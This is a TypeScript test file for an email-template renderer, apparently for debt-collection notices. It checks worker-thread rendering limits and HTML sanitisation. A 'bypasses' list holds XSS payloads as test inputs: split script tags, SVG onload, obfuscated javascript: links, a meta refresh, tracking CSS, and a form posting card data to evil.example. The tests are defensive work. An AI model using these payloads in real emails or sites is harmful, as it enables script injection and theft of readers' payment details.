import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { validationContexts } from '../../../src/messaging/templates/context.js';
import {
  defaultTemplate,
  previewEmail,
  renderEmail,
  sampleContext,
  type Template,
  TemplateError,
  type TemplateName,
  validateTemplate,
} from '../../../src/messaging/templates/index.js';
import { runOnWorker } from '../../../src/messaging/templates/pool.js';
import { sanitizeEmailHtml } from '../../../src/messaging/templates/sanitize.js';
import { hostileContext } from './fixtures/contexts.js';

function template(parts: Partial<Template>): Template {
  return {
    subject: 'Hello {{ debtor.name }}',
    text: '{{ debtor.name }} {{ portalUrl }}',
    ...parts,
  };
}

/** About a second of Liquid work, until Liquid's own render limit stops it. */
const heavy = template({
  text: '{{ portalUrl }}{% for a in (1..1500) %}{% for b in (1..1500) %}{{ a | times: b }}{% endfor %}{% endfor %}',
});

async function problemsOf(run: () => Promise<unknown>): Promise<string[]> {
  try {
    await run();
  } catch (error) {
    if (error instanceof TemplateError) return error.problems;
    throw error;
  }
  throw new Error('expected a TemplateError');
}

/** The longest the event loop went without running a timer while `work` was under way. */
async function longestStall(work: () => Promise<unknown>): Promise<number> {
  let last = performance.now();
  let longest = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    longest = Math.max(longest, now - last);
    last = now;
  }, 5);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return Math.max(longest, performance.now() - last);
}

describe('rendering on worker threads', () => {
  it('keeps the event loop responsive while heavy previews render', async () => {
    await renderEmail(defaultTemplate('neutral'), sampleContext); // the worker is up
    const started = performance.now();
    let outcomes: PromiseSettledResult<unknown>[] = [];
    const stall = await longestStall(async () => {
      outcomes = await Promise.allSettled([1, 2, 3, 4].map(() => previewEmail(heavy)));
    });
    // The renders did run (about a second each) and failed on Liquid's render limit, or, on a machine
    // so busy that a second of CPU takes longer than the pool's task limit, on that limit.
    expect(performance.now() - started).toBeGreaterThan(500);
    for (const outcome of outcomes) {
      expect(outcome.status).toBe('rejected');
      if (outcome.status === 'rejected')
        expect(String(outcome.reason)).toMatch(/takes too long to render|took too long to render/);
    }
    expect(stall).toBeLessThan(200);
  });

  it('stops a render that outlives its time limit, with a clear error, and keeps working', async () => {
    await renderEmail(defaultTemplate('neutral'), sampleContext);
    const started = performance.now();
    const problems = await problemsOf(() =>
      runOnWorker({ kind: 'render', template: heavy, context: sampleContext }, 150).then((outcome) => {
        if (!outcome.ok) throw new TemplateError(outcome.problems);
      }),
    );
    expect(performance.now() - started).toBeLessThan(900);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^This template took too long to render/);
    // The stopped worker is replaced.
    const email = await renderEmail(defaultTemplate('friendly'), sampleContext);
    expect(email.text).toContain('Priya Shah');
  });

  it('caps the size of what a template renders', async () => {
    const huge = template({
      text: '{{ portalUrl }}{% for i in (1..200000) %}twenty characters..{% endfor %}',
    });
    const problems = await problemsOf(() => renderEmail(huge, sampleContext));
    expect(problems).toEqual(['Body, line 1, column 42: the rendered email is larger than 2 MB']);
    expect((await validateTemplate(huge)).ok).toBe(false);
  });

  it('validates on a worker, with the same problems as before', async () => {
    expect(await validateTemplate(defaultTemplate('firm'))).toEqual({ ok: true });
    expect(await validateTemplate(template({ text: 'Hi {{ debtr.name }} {{ portalUrl }}' }))).toEqual({
      ok: false,
      problems: ['Body, line 1, column 7: unknown merge field "debtr.name"'],
    });
  });
});

describe('markup in the body never reaches the HTML email, which goes through the allow-list', () => {
  const bypasses: Record<string, string> = {
    'a script split by Liquid': `<scr{{ "" }}ipt>alert(1)</scr{{ "" }}ipt>`,
    'an event handler split by Liquid': `<img src="https://example.com/x.png" o{{""}}nerror="alert(1)">`,
    'an SVG with onload': '<svg/onload=alert(1)>',
    'an SVG with a script': '<svg><script>alert(1)</script></svg>',
    'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'a form to another site':
      '<form action="https://evil.example/steal" method="post"><input name="card"><button>Pay now</button></form>',
    'a javascript link split by Liquid': `<a href="java{{ '' }}script:alert(1)">pay</a>`,
    'a javascript link with an entity': '<a href="javascript&#58;alert(1)">pay</a>',
    'a javascript link with a tab': '<a href="java&Tab;script:alert(1)">pay</a>',
    'a frame': '<iframe src="https://evil.example/"></iframe>',
    'a style sheet': '<style>body{background:url(https://track.example/p)}</style>',
    'a tracking style': '<p style="background:url(https://track.example/p)">hi</p>',
  };

  it.each(Object.entries(bypasses))('shows %s as text in the rendered email', async (_name, markup) => {
    const { html, text } = await renderEmail(template({ text: `Hello\n\n${markup}` }), sampleContext);
    expect(html).not.toMatch(/<(script|svg|form|input|button|iframe|style)\b|<meta[^>]*http-equiv/i);
    expect(html).not.toMatch(/<[^>]*(\son[a-z]+\s*=|url\()/i);
    expect(html).not.toMatch(/href="[^"]*(javascript|&#58;|&Tab;)/i);
    expect(html).toContain('<p>Hello</p>');
    expect(html).toContain('&lt;');
    expect(text).toMatch(/^Hello\n\n</);
  });

  it.each(Object.entries(bypasses))('says on save that %s would show as written', async (_name, markup) => {
    const result = await validateTemplate(template({ text: `${markup} {{ portalUrl }}` }));
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problems.join('\n')).toMatch(/would be shown as written/);
  });

  it('is markup the allow-list keeps as it is, for every default template and debtor', async () => {
    for (const name of ['neutral', 'final', 'settlement'] as const)
      for (const context of [...validationContexts, hostileContext]) {
        const { html } = await renderEmail(defaultTemplate(name), context);
        expect(sanitizeEmailHtml(html)).toBe(html);
      }
  });

  it('renders the default templates as recorded (fixtures/default-renders.json)', async () => {
    const before: Record<string, unknown> = JSON.parse(
      readFileSync(new URL('./fixtures/default-renders.json', import.meta.url), 'utf8'),
    );
    const names: TemplateName[] = [
      'friendly',
      'neutral',
      'firm',
      'formal',
      'final',
      'installment',
      'settlement',
    ];
    const contexts = [...validationContexts, hostileContext];
    const after: Record<string, unknown> = {};
    for (const name of names)
      for (const [index, context] of contexts.entries())
        after[`${name}/${index}`] = await renderEmail(defaultTemplate(name), context);
    expect(after).toEqual(before);
  });
});
